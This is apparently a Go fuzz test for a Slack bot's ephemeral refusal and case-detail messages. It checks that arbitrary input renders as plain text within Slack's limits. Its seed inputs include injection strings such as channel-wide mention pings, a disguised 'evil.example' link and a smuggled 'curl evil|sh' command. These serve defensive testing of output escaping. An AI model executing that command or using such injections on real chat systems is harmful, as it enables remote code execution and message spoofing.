package slack

import (
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	api "github.com/slack-go/slack"
	"go.uber.org/zap"

	"warden/internal/clock"
	"warden/internal/ledger"
	"warden/internal/remedy"
)

// kept takes what is posted, and keeps it.
type kept struct{ posted []url.Values }

func (k *kept) RoundTrip(q *http.Request) (*http.Response, error) {
	body, err := io.ReadAll(q.Body)
	if err != nil {
		return nil, err
	}
	form, err := url.ParseQuery(string(body))
	if err != nil {
		return nil, err
	}
	k.posted = append(k.posted, form)
	return &http.Response{StatusCode: http.StatusOK, Header: http.Header{}, Request: q, Body: io.NopCloser(strings.NewReader(`{"ok":true,"message_ts":"1.1"}`))}, nil
}

// FuzzEphemeral has the refusals of a click and of a word, and a case's details, hold
// anything: what one person alone is shown is text within Slack's limits, as on cards.
func FuzzEphemeral(f *testing.F) {
	for _, s := range []string{
		"web-07", "<!channel>", "<@U0ALICE>", "<https://evil.example|ok>", "*bold*", "`code`", "```", "`warden undo <!channel>`", "`warden unfreeze; curl evil|sh`", "&lt;!channel&gt;", ":fire:",
		"\x1b[31m", "a\r\n> b", "\x00", "\u2028", "\u202egnp", "\xff\xfe", " ", "__a__", strings.Repeat("<", 5_000), strings.Repeat("`", 5_000), strings.Repeat("🔥", 5_000),
	} {
		f.Add(s)
	}
	at := time.Date(2026, 11, 20, 3, 12, 0, 0, time.UTC)
	f.Fuzz(func(t *testing.T, s string) {
		by := remedy.Actor{Name: s, Person: true}
		c := &ledger.Case{
			ID: 3, Pool: remedy.PoolName(s), Host: remedy.HostName(s), Action: remedy.ActionName(s), Detector: remedy.DetectorName(s), Stage: remedy.StageClosed, Outcome: remedy.OutcomeDenied, Note: s,
			OpenedAt: at, ChangedAt: at, ClosedAt: at, Answer: &ledger.CaseReply{By: by, At: at, Reason: s},
			Plan:     &remedy.Plan{Action: remedy.ActionName(s), Host: remedy.HostName(s), Steps: []string{s}, UndoSteps: []string{s}, Summary: s, ManualHint: s},
			Opened:   &remedy.Finding{Detector: remedy.DetectorName(s), At: at, BadSince: at, Verdict: remedy.VerdictBad, Value: remedy.Known(0.1), Term: remedy.Term{Unit: s}},
			Decision: &remedy.Decision{Level: remedy.LevelConfirm, Answers: []remedy.Answer{{Guardrail: s, Effect: remedy.EffectCap, Observed: s, Limit: s}}},
			Events:   []ledger.Event{{At: at, What: "opened"}, {At: at, What: s, By: s}},
		}
		k := &kept{}
		x := session{client: api.New("xoxb-fake", api.OptionHTTPClient(&http.Client{Transport: k}), api.OptionAPIURL("http://slack.invalid/api/"))}
		one := New(Options{
			Settings: func() Settings { return Settings{Cluster: s, Zone: time.UTC} }, Clock: clock.NewStepped(at), Logger: zap.NewNop(),
			Case: func(remedy.CaseID) (*ledger.Case, bool) { return c, true },
		})
		where := place{channel: "C0OPS", user: "U0ALICE", thread: "1.0"}
		one.refuse(t.Context(), x, where, request{what: s, by: s}, errors.New(s))
		one.refuse(t.Context(), x, where, request{what: s, by: s}, &NotYours{errors.New(s)})
		one.refuseWord(t.Context(), x, asker{place: where}, request{what: s, by: s}, true, errors.New(s))
		one.details(t.Context(), x, where, Value{Case: 3})
		if len(k.posted) != 4 {
			t.Fatalf("%d were posted", len(k.posted))
		}
		for _, form := range k.posted {
			var blocks api.Blocks
			if err := json.Unmarshal([]byte(form.Get("blocks")), &blocks); err != nil {
				t.Fatalf("%v: %s", err, form.Get("blocks"))
			}
			made := rendered{Text: form.Get("text"), Blocks: blocks.BlockSet}
			onlyText(t, s, made)
			for _, b := range made.breaches() {
				if !strings.HasPrefix(b, "a lock screen shows") { // nobody's screen lights up
					t.Errorf("%.40q: %s", s, b)
				}
			}
		}
	})
}
